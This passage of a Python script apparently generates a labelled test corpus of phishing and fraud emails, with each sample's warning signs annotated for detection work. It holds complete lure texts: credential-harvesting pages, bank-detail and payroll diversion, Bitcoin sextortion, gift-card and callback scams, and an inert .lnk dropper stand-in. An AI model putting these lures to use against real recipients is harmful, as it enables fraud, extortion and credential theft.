<button type="submit">Anmelden und Dokument anzeigen</button>
</form>
<p class="small">SOKA-BAU &middot; Wettinerstra&szlig;e 7 &middot; 65189 Wiesbaden</p>
</div>
</body></html>
'''
M(dir='attack', file='05-de-soka-bau-beitragsdifferenz-html-anhang', lang='de', charset='ISO-8859-1 (QP) + HTML attachment',
  desc='Fake SOKA-BAU (construction-industry social fund) dunning notice about a contribution shortfall of 18.472,60 EUR; HTML attachment imitates the employer portal and posts credentials to meinportal-sokabau.de.',
  why='Trade-specific authority impersonation; sender domain sokabau-portal.de is not soka-bau.de; sent with PHPMailer from a VPS; local HTML login form in the attachment (no URL in the body for scanners).',
  mailfrom='bounce@sokabau-portal.de', rcpt='claudia.neumann@example.com', date=_d,
  helo='mail.sokabau-portal.de', rdns='mail.sokabau-portal.de', ip='194.87.31.114', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  received=['from localhost (localhost [127.0.0.1])\n\tby mail.sokabau-portal.de (Postfix) with ESMTP id 0F3C2A1B44\n\tfor <claudia.neumann@example.com>; %s' % fmt(plus(_d, 1))],
  frm=('SOKA-BAU Arbeitgeberservice', 'arbeitgeberservice@sokabau-portal.de'), to=ST('neumann'),
  subject='Beitragsdifferenz Meldemonat 10/2026 - Betriebskonto 4715 2093 (Zahlungserinnerung)',
  msgid=H(_s + 'm', 43, B62) + '@sokabau-portal.de', hcs='ISO-8859-1', order=['Date', 'To', 'From', 'Subject', 'Message-ID'],
  extra=[('X-Mailer', 'PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)')],
  body=MP('mixed', [
      T('''Sehr geehrte Damen und Herren,

nach unseren Unterlagen sind die Beiträge zu den Sozialkassen der Bauwirtschaft für den Meldemonat Oktober 2026 nicht in der gemeldeten Höhe eingegangen.

Betriebskonto-Nr.:   4715 2093
Meldemonat:          10/2026
Differenz:           18.472,60 EUR

Die Aufstellung der gemeldeten Arbeitnehmer und die Differenzberechnung haben wir Ihnen als Dokument beigefügt. Bitte prüfen Sie die Angaben und nehmen Sie innerhalb von 7 Tagen Stellung, damit wir von einem Mahnverfahren absehen können. Die Stellungnahme kann direkt über das Arbeitgeberportal abgegeben werden.

Sollte sich Ihre Zahlung mit diesem Schreiben überschnitten haben, betrachten Sie es bitte als gegenstandslos.

Mit freundlichen Grüßen
Ihr Arbeitgeberservice

SOKA-BAU
Urlaubs- und Lohnausgleichskasse der Bauwirtschaft
Zusatzversorgungskasse des Baugewerbes AG
Wettinerstraße 7, 65189 Wiesbaden

Diese Nachricht wurde maschinell erstellt.
''', cs='ISO-8859-1'),
      ATT(_att.encode('utf-8'), 'text/html', 'SOKA-BAU_Beitragsdifferenz_10-2026.html'),
  ], _s, 'php'))

# --- 06 de: ZIP malware dropper - fake lawyer dunning letter ----------------
_s = 'attack/06'
_d = D('11-19 09:33:05')
M(dir='attack', file='06-de-mahnung-anwalt-zip-dropper', lang='de', charset='UTF-8 (base64) + ZIP',
  desc='"Letzte Mahnung vor gerichtlichem Mahnverfahren" from a law firm on behalf of a building-materials dealer (7.384,12 EUR); ZIP with Forderungsaufstellung_Az_1184-26.pdf.lnk (inert placeholder for a LNK loader).',
  why='Sent from a compromised genuine law-firm mailbox on shared hosting (All-Inkl style host) with the attacker\'s IP in the lower Received; unknown creditor and file number; double extension .pdf.lnk inside an archive; pressure via court threat.',
  mailfrom='sekretariat@brandt-partner-ra.de', rcpt='jonas.keller@example.com', date=_d,
  helo='dd41526.kasserver.com', rdns='dd41526.kasserver.com', ip='85.13.163.92',
  received=['from [192.168.1.23] (unknown [5.182.207.41])\n\tby dd41526.kasserver.com (Postfix) with ESMTPSA id 8C2D1B5604E2\n\tfor <jonas.keller@example.com>; %s' % fmt(plus(_d, 1))],
  frm=('Brandt & Partner Rechtsanwälte', 'sekretariat@brandt-partner-ra.de'), to=ST('keller'),
  subject='Letzte Mahnung vor gerichtlichem Mahnverfahren – Az. 1184/26 – Rechnung 2026-3391',
  msgid='%s$%s$%s@brandt-partner-ra.de' % (H(_s + 'a', 12), H(_s + 'b', 8), H(_s + 'c', 8)),
  extra=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Content-Language', 'de')],
  body=MP('mixed', [
      T('''Sehr geehrte Damen und Herren,

wir zeigen an, dass wir die Interessen der Baustoffhandel Krüger KG, Offenbach, vertreten. Eine auf uns lautende Vollmacht wird anwaltlich versichert.

Unsere Mandantin hat Ihnen mit Rechnung Nr. 2026-3391 vom 24.09.2026 Lieferungen für Ihre Baustelle in Frankfurt-Niederrad in Höhe von 7.384,12 € in Rechnung gestellt. Trotz Zahlungserinnerung und Mahnung ist bis heute kein Zahlungseingang zu verzeichnen.

Wir fordern Sie namens und im Auftrag unserer Mandantin auf, den Gesamtbetrag einschließlich der bisher entstandenen Kosten gemäß beigefügter Forderungsaufstellung bis zum

26.11.2026

zu begleichen. Nach fruchtlosem Fristablauf werden wir ohne weitere Ankündigung das gerichtliche Mahnverfahren einleiten, wodurch Ihnen weitere Kosten entstehen.

Die Forderungsaufstellung sowie Kopien der Lieferscheine haben wir Ihnen als Archiv beigefügt.

Mit freundlichen Grüßen

i. A. Sandra Köhler
Sekretariat RA Dr. Thomas Brandt

Brandt & Partner Rechtsanwälte PartG mbB
Kaiserstraße 61 · 60329 Frankfurt am Main
Tel. 069 2475 880-0 · Fax 069 2475 880-29
''', cs='utf-8', cte='base64'),
      ATT(zip_bytes([('Forderungsaufstellung_Az_1184-26.pdf.lnk', INERT),
                     ('Lieferscheine_Krueger_KG/Lieferschein_88412.pdf.lnk', INERT)], (2026, 11, 19, 9, 20, 0)),
          'application/x-zip-compressed', 'Az_1184-26_Forderungsaufstellung.zip'),
  ], _s, 'outlook'))

# --- 07 de: payroll diversion from GMX --------------------------------------
_s = 'attack/07'
_d = D('11-18 19:12:27')
_txt = '''Hallo Frau Neumann,

ich habe mein Gehaltskonto gewechselt und würde Sie bitten, meine Bankverbindung für die Novemberabrechnung zu aktualisieren:

Kontoinhaber: Lukas Berger
IBAN: %s
BIC: NTSBDEB1XXX

Ich schreibe von meiner privaten Adresse, weil ich noch in Mannheim auf der Baustelle bin und mich am Laptop gerade nicht anmelden kann. Die alte Verbindung bei der Volksbank wird Ende des Monats aufgelöst.

Können Sie mir kurz bestätigen, wenn die Änderung eingetragen ist?

Vielen Dank und schöne Grüße
Lukas Berger
''' % iban_fmt(ATK_PAYROLL_IBAN)
M(dir='attack', file='07-de-gehaltsumleitung-private-gmx-adresse', lang='de', charset='UTF-8 (QP), HTML-only',
  desc='Payroll diversion: "Lukas Berger" (site manager) asks HR from a private GMX address to change his salary account to an N26 IBAN before the November payroll.',
  why='Employee impersonation from a free mailer (lukas.berger84@gmx.de, not known to HR), excuse for not using the company account, new IBAN at a neobank %s, asks for confirmation only by mail. Compare business/04 (the real Lukas Berger writes from web.de without any payment request).' % iban_fmt(ATK_PAYROLL_IBAN),
  mailfrom='lukas.berger84@gmx.de', rcpt='claudia.neumann@example.com', date=_d,
  helo='mout.gmx.net', rdns='mout.gmx.net', ip='212.227.17.21',
  received=['from [100.72.14.9] ([89.187.171.206]) by web-mail.gmx.net\n\t(3c-app-gmx-bap27.server.lan [172.19.172.97]) (via HTTP); %s' % fmt(_d)],
  frm=('Lukas Berger', 'lukas.berger84@gmx.de'), to=ST('neumann'),
  subject='Neue Bankverbindung für Gehaltsabrechnung',
  msgid='trinity-%s-%s-%s-%s-%s-%d@3c-app-gmx-bap27' % (H(_s + '1', 8), H(_s + '2', 4), H(_s + '3', 4), H(_s + '4', 4), H(_s + '5', 12), 1763489547160),
  order=['Message-ID', 'From', 'To', 'Subject', 'Date'],
  extra=[('Importance', 'normal'), ('Sensitivity', 'Normal'), ('X-Priority', '3'), ('X-UI-Message-Type', 'mail'),
         ('X-Provags-ID', 'V03:K1:' + H(_s + 'pv', 60, B62 + '+/'))],
  body=T('<html><head></head><body><div style="font-family: Verdana;font-size: 12.0px;">' +
         ''.join('<div>%s</div>' % (l if l else '&nbsp;') for l in _txt.split('\n')) + '</div></body></html>\n',
         'html', cs='UTF-8', quote_cs=False))

# --- 08 de: sextortion with bech32 address, spoofed self-sender -------------
_s = 'attack/08'
_d = D('11-21 03:41:19', TZ(7))
M(dir='attack', file='08-de-erpressung-bitcoin', lang='de', charset='UTF-8 (base64)',
  desc='Extortion ("sextortion"): claims device compromise and webcam recordings, demands 1.450 EUR in Bitcoin to %s within 48 h.' % BTC_BECH32,
  why='From: and To: are the recipient himself (spoofed, envelope from a random domain), sent from a residential IP without rDNS in Vietnam; classic extortion wording, valid bech32 address, no links.',
  mailfrom='nguyen.th@vnbds-kinhdoanh.vn', rcpt='andreas.roth@example.com', date=_d,
  helo='[113.161.72.198]', rdns=None, ip='113.161.72.198', tls=None,
  frm=('', 'andreas.roth@example.com'), to=[('', 'andreas.roth@example.com')],
  subject='Sicherheitshinweis zu Ihrem Konto andreas.roth@example.com',
  msgid='%s@example.com' % H(_s, 20, UPALNUM),
  extra=[('X-Priority', '3'), ('X-Mailer', 'Microsoft Outlook Express 6.00.2900.5512')],
  body=T('''Hallo,

Sie werden bemerkt haben, dass diese Nachricht von Ihrer eigenen Adresse verschickt wurde. Das bedeutet, dass ich Zugriff auf Ihr Konto habe.

Vor einigen Monaten habe ich über eine Sicherheitslücke in Ihrem Router Schadsoftware auf Ihren Geräten installiert. Seitdem kann ich Ihren Bildschirm und Ihre Webcam aufzeichnen und habe Kopien Ihrer Kontakte, Ihres Mailverlaufs und Ihrer Chats. Ich habe Aufnahmen von Ihnen beim Besuch bestimmter Webseiten, die Sie sicher nicht mit Kollegen, Kunden und Familie teilen möchten.

Ich mache Ihnen ein faires Angebot: Überweisen Sie 1.450 EUR in Bitcoin an folgende Adresse:

%s

Wenn Sie nicht wissen, wie das geht, geben Sie "Bitcoin kaufen" in eine Suchmaschine ein. Es dauert nur wenige Minuten.

Sie haben 48 Stunden Zeit. Ich sehe, dass Sie diese Nachricht geöffnet haben, der Zähler läuft bereits. Nach Zahlungseingang lösche ich alle Aufnahmen und Sie hören nie wieder von mir. Andernfalls wird das Material an alle Ihre Kontakte verschickt.

Antworten Sie nicht auf diese Nachricht. Eine Anzeige bringt nichts, meine Spuren sind nicht nachvollziehbar, und das Material wird in diesem Fall sofort versendet.
''' % BTC_BECH32, cs='UTF-8', cte='base64', quote_cs=False))

# ===========================================================================
# English attacks
# ===========================================================================

# --- 09 en: DocuSign impersonation via SendGrid ------------------------------
_s = 'attack/09'
_d = D('11-05 15:26:50', UTC)
_url = 'https://eu-docusign.sig-review.com/Signing/EmailStart.aspx?a=5c1e7b0a-93d2-4f61-8c1d-0b77e2a4f913&etti=24&acct=9e0b&er=james.whitfield%40example.com'
_txt = '''Hollis & Reed Quantity Surveyors sent you a document to review and sign.

REVIEW DOCUMENT
%s

Gareth Reed
g.reed@hollisreed.co.uk

Dear James,

Please review and sign the attached Retention Release Agreement for Unit 7, Trafford Park. Once fully executed we can release the first half of the retention (GBP 84,250.00) in the December payment run.

Kind regards,
Gareth

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code:
5C1E7B0A93D24F618C1D0B77E2A4F9132

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.
''' % _url
_html = '''<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#eaeaea">
<table width="100%%" cellpadding="0" cellspacing="0" role="presentation"><tr><td align="center" style="padding:24px 0">
<table width="640" cellpadding="0" cellspacing="0" role="presentation" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif">
<tr><td style="padding:20px 24px"><img src="https://eu-docusign.sig-review.com/assets/dsc_logo.png" alt="Docusign" width="116"></td></tr>
<tr><td style="background:#1e4ca1;padding:36px 24px;text-align:center;color:#ffffff;font-size:16px">
<img src="https://eu-docusign.sig-review.com/assets/doc_icon.png" width="75" height="75" alt=""><br><br>
Hollis &amp; Reed Quantity Surveyors sent you a document to review and sign.<br><br>
<a href="%s" style="background:#ffc423;color:#333333;font-weight:bold;text-decoration:none;padding:12px 28px;border-radius:2px;display:inline-block;font-size:14px">REVIEW DOCUMENT</a>
</td></tr>
<tr><td style="padding:24px;font-size:15px;color:#333333;line-height:22px"><b>Gareth Reed</b><br><a href="mailto:g.reed@hollisreed.co.uk" style="color:#2463d1">g.reed@hollisreed.co.uk</a><br><br>
Dear James,<br><br>Please review and sign the attached Retention Release Agreement for Unit 7, Trafford Park. Once fully executed we can release the first half of the retention (GBP 84,250.00) in the December payment run.<br><br>Kind regards,<br>Gareth</td></tr>
<tr><td style="padding:24px;background:#eaeaea;font-size:11px;color:#666666"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter the security code: 5C1E7B0A93D24F618C1D0B77E2A4F9132<br><br>
<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.</td></tr>
</table></td></tr></table></body></html>
''' % _url
M(dir='attack', file='09-en-docusign-retention-release-bulk', lang='en', charset='UTF-8 (QP), multipart/alternative',
  desc='DocuSign look-alike envelope "Retention Release Agreement - Unit 7 Trafford Park" from a quantity surveyor, link to eu-docusign.sig-review.com.',
  why='Brand impersonation sent via SendGrid from the unrelated domain sig-review.com; display name "via Docusign" but the link host is not docusign.net; lure (retention money release) fits the trade; compare genuine DocuSign in business/11.',
  mailfrom='bounces+38114277-2c1e-james.whitfield=example.com@em4417.sig-review.com', rcpt='james.whitfield@example.com', date=_d,
  helo='o1.ptr4417.sig-review.com', rdns='o1.ptr4417.sig-review.com', ip='149.72.201.33', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES128-GCM-SHA256 (128/128 bits)',
  received=['by filterdrecv-6b9c4c8b9f-xq2lp with SMTP id filterdrecv-6b9c4c8b9f-xq2lp-1-6939F1D2-1F\n\t%s (UTC)' % fmt(plus(_d, -1))],
  frm=('Hollis & Reed Quantity Surveyors via Docusign', 'dse@sig-review.com'), to=ST('whitfield'),
  reply_to=('Gareth Reed', 'g.reed@hollisreed.co.uk'),
  subject='Please DocuSign: Retention Release Agreement - Unit 7 Trafford Park.pdf',
  msgid='%s@geopod-ismtpd-%d' % (H(_s, 22, B62), HN(_s, 1, 40)),
  extra=[('X-SG-EID', H(_s + 'eid', 120, B62 + '+/')), ('X-Entity-ID', H(_s + 'ent', 22, B62))],
  body=MP('alternative', [T(_txt, cs='utf-8'), T(_html, 'html', cs='utf-8')], _s, 'bulk'))

# --- 10 en: callback phishing (TOAD) - Norton renewal, Gmail ----------------
_s = 'attack/10'
_d = D('11-24 09:07:33', TZ(-6))
_inf = gmail_infra(_s, _d, 'sarah.collins@example.com')
_txt = '''Dear Customer,

Thank you for your continued trust in our services. Your subscription has been renewed automatically and the payment will be processed within 24 hours.

Invoice no.:        INV-NS-48213097
Product:            Norton 360 Deluxe - 5 devices, 1 year
Order date:         24 November 2026
Payment method:     Auto-debit
Amount:             GBP 389.99

The invoice is attached for your records. If you did not authorise this renewal or wish to cancel and receive a full refund, please contact our billing department within 24 hours of receiving this e-mail:

Billing desk (UK): +44 20 7946 0813
Monday to Saturday, 8:00 - 20:00

Please have your invoice number ready when you call.

Regards,
Customer Billing Team
'''
M(dir='attack', file='10-en-callback-phishing-antivirus-renewal', lang='en', charset='UTF-8 (QP) + PDF',
  desc='Callback phishing (TOAD): fake Norton 360 renewal of GBP 389.99 with PDF invoice; victim is asked to call a "billing desk" to cancel.',
  why='Free-mailer sender (Gmail) posing as a brand, no links at all - only a phone number (UK drama range 020 7946 0xxx used here) that leads to remote-access/refund fraud; generic greeting; PDF repeats the number.',
  infra=_inf, mailfrom='billing.norton.renewals@gmail.com', rcpt='sarah.collins@example.com', date=_d,
  frm=('Norton Billing', 'billing.norton.renewals@gmail.com'), to=ST('collins'),
  subject='Your order has been processed – INV-NS-48213097',
  order=['MIME-Version', 'From', 'Date', 'Message-ID', 'Subject', 'To'],
  body=MP('mixed', [
      MP('alternative', [T(_txt, cs='UTF-8', quote_cs=False), T(gmail_html(_txt), 'html', cs='UTF-8', quote_cs=False)], _s + 'alt', 'gmail'),
      ATT(pdf_doc(['#INVOICE INV-NS-48213097', '', 'Date: 24/11/2026', 'Customer: sarah.collins@example.com', '',
                   'Norton 360 Deluxe - 5 devices - 12 months        GBP 389.99', 'VAT included', '',
                   'Auto-renewal has been activated for your account.', '',
                   'To cancel and request a refund call: +44 20 7946 0813', 'Lines open Mon-Sat 8:00-20:00'], 'Invoice',
                  producer='Skia/PDF m131 Google Docs Renderer'),
          'application/pdf', 'INV-NS-48213097.pdf'),
  ], _s, 'gmail'))

# --- 11 en: fake HMRC CIS verification --------------------------------------
_s = 'attack/11'
_d = D('11-09 08:02:11', GMT)
_url = 'https://hmrc-cisonline.uk/gg/sign-in?continue=%2Fcis%2Fverify%2Fmismatch&ref=XCIS00044172911'
_txt = '''HM Revenue & Customs

Construction Industry Scheme (CIS) - subcontractor verification

Employer reference: 961/YA44172
Tax month ending: 5 November 2026

Our records show that 3 subcontractors included in your CIS300 monthly return for the tax month ending 5 November 2026 could not be matched to a verified Unique Taxpayer Reference. Payments to unverified subcontractors must be made with a deduction at the higher rate of 30%%.

To avoid a penalty and the recalculation of deductions for this period, please review the affected subcontractors and confirm or correct their details by 23 November 2026.

Review subcontractor details:
%s

You will need your Government Gateway user ID and password.

Yours faithfully

CIS Customer Services
HM Revenue and Customs

This is an automated message, please do not reply.
''' % _url
_html = '''<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Arial,sans-serif;font-size:16px;color:#0b0c0c;margin:0">
<div style="background:#0b0c0c;padding:10px 20px"><span style="color:#ffffff;font-weight:bold;font-size:20px">HM Revenue &amp; Customs</span></div>
<div style="max-width:600px;padding:20px">
<h2 style="font-size:24px">Construction Industry Scheme (CIS) &ndash; subcontractor verification</h2>
<p>Employer reference: <b>961/YA44172</b><br>Tax month ending: <b>5 November 2026</b></p>
<p>Our records show that 3 subcontractors included in your CIS300 monthly return for the tax month ending 5&nbsp;November&nbsp;2026 could not be matched to a verified Unique Taxpayer Reference. Payments to unverified subcontractors must be made with a deduction at the higher rate of 30%%.</p>
<p>To avoid a penalty and the recalculation of deductions for this period, please review the affected subcontractors and confirm or correct their details by <b>23&nbsp;November&nbsp;2026</b>.</p>
<p><a href="%s" style="background:#00703c;color:#ffffff;padding:8px 16px;text-decoration:none;display:inline-block">Review subcontractor details</a></p>
<p>You will need your Government Gateway user ID and password.</p>
<p>Yours faithfully<br><br>CIS Customer Services<br>HM Revenue and Customs</p>
<p style="font-size:13px;color:#505a5f">This is an automated message, please do not reply.</p></div></body></html>
''' % _url
M(dir='attack', file='11-en-hmrc-cis-verification-fake', lang='en', charset='UTF-8 (QP), multipart/alternative',
  desc='Fake HMRC Construction Industry Scheme notice: 3 subcontractors "unverified", penalty threat, Government Gateway sign-in link on hmrc-cisonline.uk.',
  why='Trade-specific UK authority lure (CIS300 returns are real for contractors); sender and link domain hmrc-cisonline.uk are not gov.uk; VPS + PHPMailer; deadline.',
  mailfrom='noreply@hmrc-cisonline.uk', rcpt='sarah.collins@example.com', date=_d,
  helo='hmrc-cisonline.uk', rdns='vps-2b81c0e4.vps.ovh.net', ip='51.75.142.209', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  frm=('HM Revenue & Customs', 'cis.notifications@hmrc-cisonline.uk'), to=ST('collins'),
  subject='CIS: action required - subcontractor verification mismatch (tax month to 5 November 2026)',
  msgid=H(_s, 32, B62) + '@hmrc-cisonline.uk', order=['Date', 'From', 'To', 'Subject', 'Message-ID'],
  extra=[('X-Mailer', 'PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)')],
  body=MP('alternative', [T(_txt, cs='utf-8', quote_cs=False), T(_html, 'html', cs='utf-8', quote_cs=False)], _s, 'php'))

# --- 12 en: tender invitation from compromised architect (Workspace) --------
_s = 'attack/12'
_d = D('11-11 11:48:20', GMT)
_inf = gmail_infra(_s, _d, 'andreas.roth@example.com', workspace=True)
_inf['msgid'] = 'CAH' + H(_s + 'w', 44, B62 + '_-') + '@mail.gmail.com'
_url = 'https://pembertonlowe-tenders.pages.dev/itt/castlefield-p2?inv=EG-0417'
_txt = '''Dear Andreas,

Further to your pre-qualification submission, our client Castlefield Wharf Developments Ltd is pleased to invite Example Group to tender for Package 2 (Frame & Envelope) of the Castlefield Mixed-Use Scheme, Manchester.

The ITT pack (drawings, specification, pricing schedules, form of tender and programme) is available from our secure tender portal:

%s

Key dates:
- Mid-tender clarification meeting: 25 November 2026
- Tender return: 14:00, 11 December 2026

Please confirm your intention to tender by return e-mail by Friday 20 November. Access to the portal is limited to the named contact; please sign in with your company e-mail account.

Kind regards

Helen Marsh
Associate | Pemberton Lowe Architects
4th Floor, 22 Bridge Street, Manchester M3 3BW
T 0161 496 0412
''' % _url
M(dir='attack', file='12-en-invitation-to-tender-compromised-architect', lang='en', charset='UTF-8 (QP), multipart/alternative',
  desc='Invitation to Tender for a Manchester mixed-use scheme from an architect\'s genuine (compromised) Google Workspace mailbox; ITT pack link to a Cloudflare Pages site that asks for the "company e-mail account" (AiTM).',
  why='Compromised genuine domain via Gmail/Workspace infrastructure; realistic construction tender wording; link host pages.dev unrelated to the architect; the request to sign in with the company account on a third-party portal is the tell.',
  infra=_inf, mailfrom='h.marsh@pembertonlowe.co.uk', rcpt='andreas.roth@example.com', date=_d,
  frm=('Helen Marsh', 'h.marsh@pembertonlowe.co.uk'), to=ST('roth'),
  subject='Invitation to Tender – Castlefield Mixed-Use Scheme, Package 2 (Frame & Envelope)',
  order=['MIME-Version', 'From', 'Date', 'Message-ID', 'Subject', 'To'],
  body=MP('alternative', [T(_txt, cs='UTF-8', quote_cs=False), T(gmail_html(_txt), 'html', cs='UTF-8', quote_cs=False)], _s, 'gmail'))

# --- 13 en: gift-card request impersonating UK MD (outlook.com) --------------
_s = 'attack/13'
_d = D('12-01 10:14:52', GMT)
M(dir='attack', file='13-en-gift-cards-md-impersonation', lang='en', charset='us-ascii (7bit)',
  desc='Gift-card scam: "James Whitfield" (UK MD) asks the office manager to buy 8 x GBP 200 Amazon gift cards for the site team and send photos of the codes.',
  why='Executive impersonation from a consumer outlook.com address (james.whitfield.md@outlook.com), secrecy, "can\'t take calls", gift cards as payment - no link, no attachment.',
  infra=outlookcom_infra(_s, _d, 'sarah.collins@example.com'),
  mailfrom='james.whitfield.md@outlook.com', rcpt='sarah.collins@example.com', date=_d,
  frm=('James Whitfield', 'james.whitfield.md@outlook.com'), to=ST('collins'),
  subject='Quick favour',
  extra=[('Content-Language', 'en-GB'), ('X-MS-Has-Attach', ''), ('X-MS-TNEF-Correlator', ''), ('msip_labels', '')],
  body=T('''Hi Sarah,

Are you at your desk? I need you to sort something for me discreetly, I'm stuck in the Castlefield progress meeting and can't take calls.

I want to surprise some of the site team for the Christmas do with gift cards. Can you pick up 8 x GBP 200 Amazon gift cards today? Put it through the card or petty cash and I'll sign it off.

Once you have them, scratch off the backs and send me clear photos of the codes here. Keep it between us for now, it's meant to be a surprise.

Thanks,
James

Sent from Outlook for iOS
''', cs='us-ascii', cte='7bit'))

# --- 14 en: voicemail notification with SVG attachment ----------------------
_s = 'attack/14'
_d = D('11-19 11:32:08', GMT)
_url = 'https://vm-playback.eu-cdn-audio.com/play/?m=anVsaWEua3JhZW1lckBleGFtcGxlLmNvbQ&id=0047'
_svg = '''<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="420" height="140" viewBox="0 0 420 140">
  <rect width="420" height="140" rx="10" fill="#f3f2f1"/>
  <circle cx="60" cy="70" r="32" fill="#5b5fc7"/>
  <polygon points="50,54 50,86 78,70" fill="#ffffff"/>
  <text x="110" y="58" font-family="Segoe UI, Arial" font-size="16" fill="#242424">Voice message - 0:47</text>
  <text x="110" y="84" font-family="Segoe UI, Arial" font-size="13" fill="#616161">From +44 161 496 0734 - 19/11/2026 11:31</text>
  <a xlink:href="%s" target="_blank">
    <rect x="110" y="96" width="150" height="28" rx="4" fill="#5b5fc7"/>
    <text x="135" y="115" font-family="Segoe UI, Arial" font-size="13" fill="#ffffff">Play message</text>
  </a>
</svg>
''' % _url
_html = '''<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px">
<p><b>You received a new voice message</b></p>
<table cellpadding="4" style="font-size:14px"><tr><td>Caller:</td><td>+44 161 496 0734</td></tr>
<tr><td>Duration:</td><td>00:47</td></tr><tr><td>Received:</td><td>Thursday, 19 November 2026 11:31</td></tr>
<tr><td>Mailbox:</td><td>julia.kraemer@example.com (ext. 2174)</td></tr></table>
<p>The recording is attached to this message. Open the attachment in your browser to play it.</p>
<p style="font-size:11px;color:#777">Unified Messaging &middot; Example Group Voice Services</p></body></html>
'''
M(dir='attack', file='14-en-voicemail-svg-attachment', lang='en', charset='UTF-8 (QP) + SVG attachment',
  desc='Fake voicemail notification (0:47 from a Manchester number) with an SVG "recording" whose button links to a credential page; recipient address base64-encoded in the URL.',
  why='SVG attachment (script-capable image format, popular 2025-26 evasion) instead of audio; internal-looking "Voice Services" sender on an unrelated domain; dynamic rDNS sender; no audio file at all.',
  mailfrom='voicemail@uc-voicemessages.net', rcpt='julia.kraemer@example.com', date=_d,
  helo='uc-voicemessages.net', rdns='static.148.201.47.5.clients.your-server.de', ip='5.47.201.148', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  frm=('Voice Services', 'voicemail@uc-voicemessages.net'), to=ST('kraemer'),
  subject='New voice message from +44 161 496 0734 (0:47)',
  msgid='%s.%s@uc-voicemessages.net' % (H(_s, 16), H(_s + 'x', 8)),
  body=MP('mixed', [T(_html, 'html', cs='utf-8'),
                    ATT(_svg.encode('utf-8'), 'image/svg+xml', 'VM_+441614960734_0047.svg')], _s, 'bulk'))

# --- 15 en: thread hijack from compromised supplier, bank change -------------
_s = 'attack/15'
_d = D('11-26 13:05:47', GMT)
_prev_mid = 'AS8PR05MB91741C8E0E2F3B8AB7D4A2C1B8E12@AS8PR05MB9174.eurprd05.prod.outlook.com'
_txt = '''Hi Sarah,

Thanks for confirming the October payment run.

Please note that following our year-end audit our accounts have moved to a new bank, so the remittance for invoices HS-24871 and HS-24903 (total GBP 36,418.20) should go to the new account below rather than the Barclays account you have on file:

Account name: Harrow Scaffolding Ltd
Bank: Metro Bank PLC
Sort code: 23-05-80
Account no.: 41728390
IBAN: %s

The signed change-of-details letter on headed paper is attached. Could you confirm once the details are updated on your side so I can let our credit controller know?

Kind regards,
Mark

Mark Davies
Commercial Manager
Harrow Scaffolding Ltd
Unit 9, Westinghouse Road, Trafford Park, Manchester M17 1AE
M 07700 900418

From: Sarah Collins <sarah.collins@example.com>
Sent: 20 November 2026 16:12
To: Mark Davies <mark.davies@harrowscaffolding.co.uk>
Subject: RE: Statement of account - October 2026

Hi Mark,

HS-24871 and HS-24903 are approved and scheduled for the payment run on 27/11. HS-24655 is still on hold until we receive the handover certificate for the east elevation.

Thanks,
Sarah
''' % iban_fmt(ATK_HARROW_IBAN)
M(dir='attack', file='15-en-thread-hijack-scaffolding-bank-change', lang='en', charset='UTF-8 (QP) + PDF',
  desc='Conversation hijack: reply inside a real thread from the genuine (compromised) mailbox of the scaffolding subcontractor, asking to pay GBP 36,418.20 to a new Metro Bank account.',
  why='Sender is the real mark.davies@harrowscaffolding.co.uk sent from their own M365 tenant (authentication would pass), but Reply-To points to the look-alike harrowscaffolding-ltd.co.uk; bank change timed to an approved payment run; %s vs. known Barclays account.' % iban_fmt(ATK_HARROW_IBAN),
  infra=m365_infra(_s, _d, 'sarah.collins@example.com', 'AS8PR05MB9174'),
  mailfrom='mark.davies@harrowscaffolding.co.uk', rcpt='sarah.collins@example.com', date=_d,
  frm=('Mark Davies', 'mark.davies@harrowscaffolding.co.uk'), to=ST('collins'),
  reply_to=('Mark Davies', 'mark.davies@harrowscaffolding-ltd.co.uk'),
  subject='RE: Statement of account - October 2026',
  extra=[('Thread-Topic', 'Statement of account - October 2026'), ('Thread-Index', thread_index(_s)),
         ('In-Reply-To', '<%s>' % exch_mid('b15prev', 'example.com')),
         ('References', '<%s>\n <%s>' % (_prev_mid, exch_mid('b15prev', 'example.com'))),
         ('Content-Language', 'en-GB'), ('X-MS-Has-Attach', 'yes')],
  body=MP('mixed', [
      MP('alternative', [T(_txt, cs='utf-8'), T(outlook_html(_txt, 'utf-8', 'EN-GB'), 'html', cs='utf-8')], _s + 'a', 'outlook'),
      ATT(pdf_doc(['#HARROW SCAFFOLDING LTD', 'Unit 9, Westinghouse Road, Trafford Park, Manchester M17 1AE', '',
                   '26 November 2026', '', 'Notification of change of bank details', '',
                   'With immediate effect please make all payments to:', 'Metro Bank PLC, sort code 23-05-80, account 41728390',
                   'IBAN ' + iban_fmt(ATK_HARROW_IBAN), '', 'Signed: M. Davies, Commercial Manager'], 'Change of bank details'),
          'application/pdf', 'Harrow Scaffolding - change of bank details.pdf'),
  ], _s, 'outlook'))

# --- 16 en: OAuth device-code phishing via Teams pretext --------------------
_s = 'attack/16'
_d = D('12-02 08:40:15', GMT)
_txt = '''Hi Katrin,

As agreed with James, I've set up a secure Teams session for 10:00 CET today to walk through the Q4 cost report and the retention schedule for Castlefield before it goes to the funder.

Because the report contains the client's financials, our tenant only admits external attendees who have authorised the session once:

  1. Go to https://microsoft.com/devicelogin
